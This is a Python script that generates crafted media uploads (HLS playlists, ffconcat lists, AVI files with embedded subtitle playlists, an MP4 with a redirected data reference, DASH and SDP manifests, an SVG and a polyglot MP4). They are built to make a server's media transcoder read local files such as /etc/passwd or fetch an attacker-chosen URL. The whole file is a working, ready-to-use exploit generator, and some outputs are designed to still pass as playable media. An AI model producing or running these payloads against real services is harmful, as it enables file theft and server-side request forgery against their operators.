"""Writes uploads that name a file and an address. Those whose names begin with "playable" are media all the same.

    make.py CLIP.mp4 FILE URL FOLDER
"""
import pathlib
import struct
import sys

clip, file, url, folder = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3], pathlib.Path(sys.argv[4])


def playlist(target):
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n".encode()


def riff(kind, *parts):
    """A chunk of a RIFF file."""
    body = b"".join(parts)
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def avi(subtitles):
    """An AVI with a stream of subtitles, which are a file of their own in it."""
    header = riff(b"avih", struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 16, 16, 0, 0, 0, 0))
    stream = riff(b"strh", b"txts", b"\0" * 4, struct.pack("<10I", 0, 0, 0, 1, 25, 0, 25, 0, 0, 0), b"\0" * 8)
    name = "a\0".encode("utf-16-le")
    packet = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(subtitles)) + subtitles
    lists = riff(b"LIST", b"hdrl", header, riff(b"LIST", b"strl", stream)), riff(b"LIST", b"movi", riff(b"00tx", packet))
    return riff(b"RIFF", b"AVI ", *lists)


CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def refer(boxes, path):
    """The boxes of an MP4 whose samples are in another file."""
    result, at = b"", 0
    while at < len(boxes):
        size, kind = struct.unpack_from(">I4s", boxes, at)
        body = boxes[at + 8:at + size]
        if kind in CONTAINERS:
            body = refer(body, path)
        elif kind == b"dref":
            text = b"disk" + path.encode()
            alias = bytearray(150)  # As in classic Mac OS: a volume, a file, its path.
            alias[10:15] = b"\x04disk"
            alias[50:55] = b"\x04file"
            alias += struct.pack(">HH", 2, len(text)) + text + b"\0" * (len(text) % 2) + b"\xff\xff\0\0"
            body = struct.pack(">II", 0, 1) + struct.pack(">I4sI", 12 + len(alias), b"alis", 0) + alias
        result += struct.pack(">I4s", len(body) + 8, kind) + body
        at += size
    return result


uploads = {}
for name, target in {"passwd": "/etc/passwd", "file": file, "url": url, "file-url": f"file://{file}",
                     "concat": f"concat:{file}|{file}", "subfile": f"subfile,,start,0,end,9,,:{file}",
                     "crypto": f"crypto:{file}", "data": f"data:video/mp2t,{url}"}.items():
    uploads[f"playlist-{name}"] = playlist(target)
    uploads[f"concat-{name}"] = f"ffconcat version 1.0\nfile '{target}'\n".encode()
    uploads[f"avi-{name}"] = avi(playlist(target))
uploads["playlist-key"] = playlist(url).replace(b"#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{file}"\n#EXTINF'.encode())
uploads["manifest"] = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="16" height="16">'
    f"<BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>").encode()
uploads["description"] = f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{url}\n".encode()
uploads["images"] = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='file://{file}'/></svg>".encode()
uploads["reference"] = refer(clip.read_bytes(), file)
uploads["playable-tail"] = clip.read_bytes() + playlist(url)

for name, content in uploads.items():
    (folder / name).write_bytes(content)
